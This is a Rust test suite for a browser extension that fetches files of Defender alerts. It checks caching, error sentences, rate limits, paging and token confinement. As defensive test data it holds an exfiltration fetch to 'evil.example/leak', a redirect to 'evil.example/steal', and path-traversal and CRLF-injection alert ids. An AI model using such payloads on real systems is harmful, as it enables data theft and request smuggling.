//! Looking files up: one call where one does, and a sentence with a remedy for everything that can go wrong.

use std::time::Duration;

use serde_json::json;

use crate::{
    desk::{Desk, Outcome, counts_down, dist, says},
    support::{
        chromium::{CdpError, Chromium, LaunchOptions, Name, Network, Page},
        tenant::{AccessClaims, Action, Answer, CONTOSO, CORRELATION_ID, Fault, Paging, RecordedRequest, alerts},
    },
};

const PATIENCE: Duration = Duration::from_secs(15);

async fn cards(popup: &Page, count: usize) -> Result<(), CdpError> {
    popup.wait_for_count(count, "article", Name::starting("File ")).await.map(drop)
}

async fn is_done(popup: &Page) -> Result<(), CdpError> {
    popup.wait_until("document.querySelector('.cards-of-alert')?.getAttribute('aria-busy') === 'false'").await
}

/// How many permits for calls the ledgers have given so far.
async fn permits_taken(popup: &Page) -> Result<usize, Box<dyn std::error::Error>> {
    let script = "chrome.storage.session.get().then(all => Object.entries(all)
        .filter(([key]) => key.startsWith('ledger'))
        .reduce((sum, [, ledger]) => sum + JSON.parse(ledger).calls.length, 0))";
    Ok(usize::try_from(popup.evaluate(script).await?.as_u64().ok_or("no ledger")?)?)
}

fn files(request: &RecordedRequest) -> bool {
    request.path.ends_with("/files")
}

/// A popup over the alert with six files, with a token, its cards drawn, and the record of requests empty.
async fn at_work(test: &str) -> Result<Option<(Desk, Page, Page)>, Box<dyn std::error::Error>> {
    let Some(desk) = Desk::new(test).await? else { return Ok(None) };
    let tab = desk.open_alert(alerts::SIX_FILES).await?;
    let popup = desk.start_with_token(&tab, "File.Read.All").await?;
    cards(&popup, 6).await?;
    desk.tenant.forget_requests();
    Ok(Some((desk, tab, popup)))
}

#[tokio::test]
async fn popup_and_panel_and_a_second_popup_make_one_call() -> Outcome {
    let Some(desk) = Desk::new("one call for all").await? else { return Ok(()) };
    let other = desk.open_alert(alerts::NO_FILES).await?;
    let popup = desk.start_with_token(&other, "File.Read.All").await?;
    says(&popup, "This alert has no files").await?;
    popup.close().await?;
    desk.tenant.forget_requests();
    let tab = desk.open_alert(alerts::SIX_FILES).await?;
    let options = desk.browser.open_extension_page("options.html").await?;
    let panel = desk.browser.open_panel(&options).await?;
    desk.tenant.fault(Fault::api(Action::Delay(Duration::from_millis(1500))));
    tab.bring_to_front().await?;
    let popup = desk.browser.open_popup(&tab).await?;
    cards(&popup, 6).await?;
    cards(&panel, 6).await?;
    assert_eq!(desk.tenant.api_calls().len(), 1);
    popup.close().await?;
    let popup = desk.browser.open_popup(&tab).await?;
    cards(&popup, 6).await?;
    assert_eq!(desk.tenant.api_calls().len(), 1);
    desk.browser.expect_no_complaints()?;
    Ok(())
}

/// C-10
#[tokio::test]
async fn a_kept_answer_is_drawn_with_its_age_and_without_a_call_and_refresh_asks_again() -> Outcome {
    let Some((desk, tab, popup)) = at_work("kept answers").await? else { return Ok(()) };
    popup.close().await?;
    desk.tenant.fault(Fault::api(Action::Hang).always());
    let popup = desk.browser.open_popup(&tab).await?;
    cards(&popup, 6).await?;
    let age = popup.evaluate("document.querySelector('.age')?.textContent ?? ''").await?;
    assert!(age.as_str().is_some_and(|age| age.contains("now") || age.contains("ago") || age.contains("s")), "{age}");
    let call = desk.tenant.wait_for_request(Duration::from_secs(3), files).await;
    assert!(call.is_none(), "a fresh answer costs no call");
    desk.tenant.clear_faults();
    popup.get_by_role("button", "Refresh").await?.click().await?;
    desk.tenant.wait_for_request(PATIENCE, files).await.ok_or("no call")?;
    is_done(&popup).await?;
    cards(&popup, 6).await?;
    assert_eq!(desk.tenant.api_calls().len(), 1);
    Ok(())
}

#[tokio::test]
async fn a_stale_answer_is_drawn_at_once_and_refreshed_behind() -> Outcome {
    let Some((desk, tab, popup)) = at_work("stale answers").await? else { return Ok(()) };
    popup.close().await?;
    // Ten minutes older than it is: an answer is kept as its moment, its length, its text.
    let worker = desk.browser.wake_worker().await?;
    let aged = "chrome.storage.session.get().then(async all => {
        let aged = 0;
        for (const [key, value] of Object.entries(all)) if (key.startsWith('answer ')) {
            await chrome.storage.session.set({ [key]: value.replace(/\\d{13}/, now => String(now - 600000)) });
            aged += 1;
        }
        return aged;
    })";
    assert_eq!(worker.evaluate(aged).await?, 1);
    desk.tenant.fault(Fault::api(Action::Delay(Duration::from_secs(2))));
    let popup = desk.browser.open_popup(&tab).await?;
    cards(&popup, 6).await?;
    says(&popup, "10 min").await?;
    desk.tenant.wait_for_request(PATIENCE, files).await.ok_or("not refreshed")?;
    is_done(&popup).await?;
    says(&popup, "just now").await?;
    assert_eq!(desk.tenant.api_calls().len(), 1);
    Ok(())
}

/// C-04, C-06: the table of what can come instead of files.
#[tokio::test]
async fn every_failure_has_its_own_sentence_and_the_cards_from_before_stay() -> Outcome {
    let Some((desk, _, popup)) = at_work("failures").await? else { return Ok(()) };
    let respond = Action::Respond;
    let never_json = Answer::json(200, "{\"value\": 7}");
    let table: Vec<(Action, usize, &str, &str)> = vec![
        (respond(Answer::api_error(400, "BadRequest")), 1, "refused the request: BadRequest (HTTP 400)", "Try again"),
        (respond(Answer::api_error(403, "Forbidden")), 1, "does not let you see this alert", "View Data"),
        (respond(Answer::api_error(404, "ResourceNotFound")), 1, "does not know this alert", "retention period"),
        (respond(Answer::api_error(500, "InternalServerError")), 3, "failed (HTTP 500)", "Try again"),
        (respond(Answer::empty(503)), 3, "failed (HTTP 503)", "Try again"),
        (Action::Close, 3, "cannot be reached: network or policy", "Check the connection"),
        (respond(Answer::proxy_page()), 1, "A web page came", "proxy"),
        (respond(Answer::empty(200)), 1, "The answer was empty", "Try again"),
        (respond(never_json), 1, "not one that Defender gives", "Try again"),
        (respond(Answer::redirect("https://evil.example/steal")), 3, "cannot be reached", "Check the connection"),
        (Action::Endless(50 * 1024 * 1024), 1, "larger than Hashcard reads", "portal"),
    ];
    for (action, tries, sentence, remedy) in table {
        let what = format!("{action:.60?}");
        let closes = matches!(action, Action::Close);
        let permits = permits_taken(&popup).await?;
        desk.tenant.forget_requests();
        desk.tenant.fault(Fault::api(action).always());
        popup.get_by_role("button", "Refresh").await?.click().await?;
        let told = popup.wait_for_words("alert", sentence).await.map_err(|error| format!("{what}: {error}"))?;
        assert!(told.contains(remedy), "{what}: {told}");
        // Every try of Hashcard's takes a permit. Below it the browser repeats a request by itself, once for each
        // connection that was kept alive and then closed on it, and loses one when the computer's network changes.
        assert_eq!(permits_taken(&popup).await? - permits, tries, "{what}: tries of Hashcard's");
        let arrived: Vec<String> =
            desk.tenant.api_calls().iter().map(|call| format!("{} {}", call.at, call.url())).collect();
        assert!(!arrived.is_empty() && (arrived.len() <= tries || closes), "{what}: {arrived:#?}");
        cards(&popup, 6).await.map_err(|error| format!("{what}: {error}"))?;
        assert_eq!(desk.tenant.requests_to("evil.example").len(), 0, "{what}");
        desk.tenant.clear_faults();
        popup.get_by_role("button", "Refresh").await?.click().await?;
        popup.wait_until_none("alert", Name::Any).await.map_err(|error| format!("{what}, afterwards: {error}"))?;
    }
    Ok(())
}

/// C-04
#[tokio::test]
async fn an_answer_that_breaks_off_is_said() -> Outcome {
    let Some((desk, _, popup)) = at_work("truncated answers").await? else { return Ok(()) };
    let half = "{\"value\": [{\"sha1\": \"f2a00fd2f2de1be0214b8529f1e9f67096c1aa70\", \"sha2";
    desk.tenant.fault(Fault::api(Action::Respond(Answer::json(200, half))));
    popup.get_by_role("button", "Refresh").await?.click().await?;
    popup.wait_for_words("alert", "broke off in the middle").await?;
    // Fewer bytes than announced are a broken connection.
    desk.tenant.fault(Fault::api(Action::Truncate).always());
    popup.get_by_role("button", "Try again").await?.click().await?;
    popup.wait_for_words("alert", "cannot be reached").await?;
    desk.tenant.clear_faults();
    popup.get_by_role("button", "Try again").await?.click().await?;
    popup.wait_until_none("alert", Name::Any).await?;
    cards(&popup, 6).await?;
    Ok(())
}

/// C-04
#[tokio::test]
async fn a_correlation_id_can_be_copied() -> Outcome {
    let Some((desk, _, popup)) = at_work("correlation ids").await? else { return Ok(()) };
    desk.tenant.fault(Fault::api(Action::Respond(Answer::api_error(404, "ResourceNotFound"))));
    popup.get_by_role("button", "Refresh").await?.click().await?;
    let told = popup.wait_for_words("alert", "does not know this alert").await?;
    assert!(told.contains(CORRELATION_ID), "{told}");
    popup.get_by_role("button", "Copy correlation id").await?.click().await?;
    popup.wait_for_words("status", "opied").await?;
    assert_eq!(popup.clipboard().await?, CORRELATION_ID);
    Ok(())
}

/// C-04: with the permission in the token, the role or the device group is what is missing.
#[tokio::test]
async fn a_403_says_whom_to_ask_and_names_the_permission_if_the_token_lacks_it() -> Outcome {
    let Some(desk) = Desk::new("403").await? else { return Ok(()) };
    let tab = desk.open_alert(alerts::OTHER_DEVICE_GROUP).await?;
    let popup = desk.start_with_token(&tab, "File.Read.All").await?;
    let told = popup.wait_for_words("alert", "does not let you see this alert").await?;
    assert!(told.contains("View Data") && told.contains("device group"), "{told}");
    let worker = desk.browser.wake_worker().await?;
    let less = "chrome.storage.session.get('sessions').then(({ sessions }) => chrome.storage.session.set({
        sessions: sessions.replaceAll('FileReadAll', 'AlertRead') }))";
    worker.evaluate(less).await?;
    // Another permission is a reason to ask again by itself.
    popup.wait_for_words("alert", "lacks the permission File.Read.All").await?;
    Ok(())
}

#[tokio::test]
async fn a_token_refused_twice_ends_in_a_sign_in_and_not_in_a_loop() -> Outcome {
    let Some((desk, _, popup)) = at_work("401 twice").await? else { return Ok(()) };
    desk.tenant.fault(Fault::api(Action::Respond(Answer::api_error(401, "Unauthorized"))).always());
    popup.get_by_role("button", "Refresh").await?.click().await?;
    popup.wait_for_words("alert", "token").await.or(popup.wait_for_words("alert", "renewed").await)?;
    assert!(desk.tenant.api_calls().len() <= 2);
    assert_eq!(desk.tenant.token_requests().len(), 0, "a pasted token cannot be renewed");
    Ok(())
}

#[tokio::test]
async fn a_popup_that_opens_sees_what_changes_before_it_listens() -> Outcome {
    let Some((desk, _, popup)) = at_work("a change while a popup opens").await? else { return Ok(()) };
    // After the first reading and before the listener: a sign-out on another page.
    let source = "Object.defineProperty(chrome.storage, 'onChanged', { value: {
        addListener() { chrome.storage.session.remove('sessions'); } } });";
    popup.session().call("Page.addScriptToEvaluateOnNewDocument", json!({ "source": source })).await?;
    popup.reload().await?;
    says(&popup, "Not signed in").await?;
    cards(&popup, 0).await?;
    desk.browser.expect_no_complaints()?;
    Ok(())
}

/// C-05
#[tokio::test]
async fn a_429_counts_down_and_goes_on_by_itself() -> Outcome {
    let Some((desk, _, popup)) = at_work("429").await? else { return Ok(()) };
    for date in [false, true] {
        let in_five_seconds = popup.evaluate("new Date(Date.now() + 5000).toUTCString()").await?;
        let retry_after = if date { in_five_seconds.as_str().ok_or("no date")? } else { "3" };
        desk.tenant.forget_requests();
        desk.tenant.fault(Fault::api(Action::Respond(Answer::too_many_requests(retry_after))));
        popup.get_by_role("button", "Refresh").await?.click().await?;
        says(&popup, "Next call in 0:0").await.map_err(|error| format!("{retry_after}: {error}"))?;
        cards(&popup, 6).await?;
        is_done(&popup).await?;
        assert_eq!(desk.tenant.api_calls().len(), 2, "{retry_after}");
        assert_eq!(popup.get_all_by_role("alert", Name::Any).await?.len(), 0, "{retry_after}");
    }
    for (unreadable, countdown) in [("soon", "Next call in 0:5"), ("999999999", "Next call in 59:5")] {
        desk.tenant.forget_requests();
        desk.tenant.fault(Fault::api(Action::Respond(Answer::too_many_requests(unreadable))));
        popup.get_by_role("button", "Refresh").await?.click().await?;
        says(&popup, countdown).await.map_err(|error| format!("{unreadable}: {error}"))?;
        popup.get_by_role("button", "Refresh").await?.click().await?;
        counts_down(&popup).await?;
        assert_eq!(desk.tenant.api_calls().len(), 1);
        popup
            .evaluate(
                "chrome.storage.session.getKeys().then(keys => \
                        chrome.storage.session.remove(keys.filter(key => key.startsWith('ledger'))))",
            )
            .await?;
        popup.reload().await?;
        cards(&popup, 6).await?;
    }
    Ok(())
}

/// C-05
#[tokio::test]
async fn a_429_with_permits_left_says_that_others_share_the_quota() -> Outcome {
    let Some((desk, _, popup)) = at_work("a shared quota").await? else { return Ok(()) };
    desk.tenant.spend_calls(CONTOSO, 100);
    popup.get_by_role("button", "Refresh").await?.click().await?;
    says(&popup, "share").await?;
    Ok(())
}

/// C-04: 20 seconds for each of three tries is too long to wait for; the first of them is waited for.
#[tokio::test]
async fn an_api_that_never_answers_is_given_up_and_asked_again() -> Outcome {
    let Some((desk, _, popup)) = at_work("timeouts").await? else { return Ok(()) };
    desk.tenant.fault(Fault::api(Action::Hang).times(1));
    popup.get_by_role("button", "Refresh").await?.click().await?;
    let twice = || async {
        loop {
            if desk.tenant.api_calls().len() > 1 {
                return;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    };
    tokio::time::timeout(Duration::from_secs(40), twice()).await.map_err(|_| "no second try")?;
    is_done(&popup).await?;
    cards(&popup, 6).await?;
    assert_eq!(popup.get_all_by_role("alert", Name::Any).await?.len(), 0);
    Ok(())
}

/// C-06
#[tokio::test]
async fn a_host_that_does_not_resolve_is_network_or_policy() -> Outcome {
    let Some(desk) = Desk::new("DNS failure").await? else { return Ok(()) };
    let Desk { tenant, browser } = desk;
    drop(browser);
    let options = LaunchOptions {
        arguments: tenant.chromium_arguments_without(&["api.securitycenter.microsoft.com"]),
        ..LaunchOptions::with_extension(dist())
    };
    let desk = Desk { browser: Chromium::launch(options).await?, tenant };
    let tab = desk.open_alert(alerts::SIX_FILES).await?;
    let popup = desk.start_with_token(&tab, "File.Read.All").await?;
    let told = popup.wait_for_words("alert", "cannot be reached: network or policy").await?;
    assert!(told.contains("policy blocks"), "{told}");
    Ok(())
}

/// C-06
#[tokio::test]
async fn what_was_cut_off_is_asked_again_by_a_click_once_the_network_is_back() -> Outcome {
    let Some((desk, _, popup)) = at_work("a cut network").await? else { return Ok(()) };
    popup.set_network(Network::Offline).await?;
    popup.get_by_role("button", "Refresh").await?.click().await?;
    popup.wait_for_words("alert", "cannot be reached: network or policy").await?;
    cards(&popup, 6).await?;
    popup.set_network(Network::Online).await?;
    popup.get_by_role("button", "Try again").await?.click().await?;
    popup.wait_until_none("alert", Name::Any).await?;
    assert_eq!(desk.tenant.api_calls().len(), 1);
    Ok(())
}

/// C-02
#[tokio::test]
async fn pages_are_followed_on_defenders_hosts_and_nowhere_else() -> Outcome {
    let Some((desk, _, popup)) = at_work("paging").await? else { return Ok(()) };
    for (paging, calls, count, words) in [
        (Paging::Pages(4), 2, 6, ""),
        (Paging::AnotherHost(3), 2, 6, ""),
        (Paging::ForeignHost, 1, 6, "leads outside Defender's API"),
        (Paging::Endless, 2, 6, "in a circle"),
    ] {
        desk.tenant.paging(paging);
        desk.tenant.forget_requests();
        popup.get_by_role("button", "Refresh").await?.click().await?;
        desk.tenant.wait_for_request(PATIENCE, files).await.ok_or("no call")?;
        is_done(&popup).await?;
        if !words.is_empty() {
            says(&popup, words).await.map_err(|error| format!("{paging:?}: {error}"))?;
        }
        popup.wait_until(&format!("document.querySelectorAll('article').length >= {count}")).await?;
        assert!(desk.tenant.api_calls().len() <= calls, "{paging:?}: {}", desk.tenant.api_calls().len());
        assert_eq!(desk.tenant.requests_to("evil.example").len(), 0, "{paging:?}");
    }
    desk.tenant.paging(Paging::EverNew);
    desk.tenant.forget_requests();
    popup.get_by_role("button", "Refresh").await?.click().await?;
    says(&popup, "more files than Hashcard reads").await?;
    assert!(desk.tenant.api_calls().len() <= 20, "{}", desk.tenant.api_calls().len());
    Ok(())
}

/// C-01, F-02
#[tokio::test]
async fn the_token_goes_to_the_api_alone_and_nothing_of_the_browser_goes_with_it() -> Outcome {
    let Some((desk, _, popup)) = at_work("who gets the token").await? else { return Ok(()) };
    popup.get_by_role("button", "Refresh").await?.click().await?;
    desk.tenant.wait_for_request(PATIENCE, files).await.ok_or("no call")?;
    is_done(&popup).await?;
    let calls = desk.tenant.api_calls();
    assert_eq!(calls.len(), 1);
    for call in &calls {
        assert_eq!(call.method, "GET");
        assert_eq!(call.host, "api.securitycenter.microsoft.com");
        assert!(call.header("authorization").is_some_and(|value| value.starts_with("Bearer ")));
        for name in ["cookie", "referer", "origin"] {
            assert_eq!(call.header(name), None, "{name}");
        }
    }
    for request in desk.tenant.requests() {
        let is_call = request.host == "api.securitycenter.microsoft.com";
        assert_eq!(request.header("authorization").is_some(), is_call, "{}", request.url());
    }
    let worker = desk.browser.wake_worker().await?;
    let leak = "fetch('https://evil.example/leak', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked')";
    assert_eq!(popup.evaluate(leak).await?, "blocked");
    assert_eq!(worker.evaluate(leak).await?, "blocked");
    assert_eq!(desk.tenant.requests_to("evil.example").len(), 0);
    Ok(())
}

#[tokio::test]
async fn an_alert_without_files_is_no_error() -> Outcome {
    let Some(desk) = Desk::new("no files").await? else { return Ok(()) };
    let tab = desk.open_alert(alerts::NO_FILES).await?;
    let popup = desk.start_with_token(&tab, "File.Read.All").await?;
    says(&popup, "This alert has no files").await?;
    assert_eq!(popup.get_all_by_role("alert", Name::Any).await?.len(), 0);
    desk.browser.expect_no_complaints()?;
    Ok(())
}

/// C-03
#[tokio::test]
async fn a_hostile_id_never_leaves_its_place_in_the_path() -> Outcome {
    let Some((desk, tab, popup)) = at_work("hostile ids").await? else { return Ok(()) };
    popup.close().await?;
    let long = "da".to_owned() + &"9".repeat(3000);
    for id in [
        "../machines",
        "%2e%2e%2fmachines",
        "da1%0d%0aX-Evil%3a1",
        "da63755%2f..%2f..",
        "dа637551227677560813_1",
        &long,
    ] {
        tab.evaluate(&format!("history.pushState(null, '', '/alerts/{id}')")).await?;
        let popup = desk.browser.open_popup(&tab).await?;
        popup.wait_until("document.querySelector('main h1') !== null").await?;
        popup.close().await?;
    }
    for call in desk.tenant.api_calls() {
        assert!(call.path.starts_with("/api/alerts/") && call.path.ends_with("/files"), "{}", call.path);
        assert_eq!(call.path.split('/').count(), 5, "{}", call.path);
    }
    assert_eq!(desk.tenant.requests_to("evil.example").len(), 0);
    Ok(())
}

/// C-07: an answer over two megabytes is shown, said not to be kept, and costs the next opening a call.
#[tokio::test]
async fn an_answer_that_is_too_large_to_keep_says_so() -> Outcome {
    let Some(desk) = Desk::new("large answers").await? else { return Ok(()) };
    let tab = desk.open_alert(&alerts::generated(5000, 1)).await?;
    let popup = desk.start_with_token(&tab, "File.Read.All").await?;
    popup.wait_until_within(Duration::from_secs(30), "document.body.innerText.includes('over 2 MB')").await?;
    desk.browser.expect_no_complaints()?;
    Ok(())
}

/// B-15
#[tokio::test]
async fn garbage_in_the_storage_counts_as_signed_out() -> Outcome {
    let Some((desk, tab, popup)) = at_work("garbage in the storage").await? else { return Ok(()) };
    popup.close().await?;
    let worker = desk.browser.wake_worker().await?;
    worker
        .evaluate(
            "chrome.storage.session.get().then(all => chrome.storage.session.set(
                 Object.fromEntries(Object.keys(all).map((key, at) => [key, [7, null, '{', [], {}, '[[]]', 'x'.repeat(9)][at % 7]]))))",
        )
        .await?;
    let popup = desk.browser.open_popup(&tab).await?;
    popup.get_by_role("button", "Use an access token").await?;
    desk.browser.expect_no_complaints()?;
    let token = desk.tenant.mint_access_token(&AccessClaims::default());
    popup.get_by_role("button", "Use an access token").await?.click().await?;
    popup.get_by_role("textbox", "Access token").await?.fill(&token).await?;
    popup.get_by_role("button", "Use token").await?.click().await?;
    cards(&popup, 6).await?;
    Ok(())
}
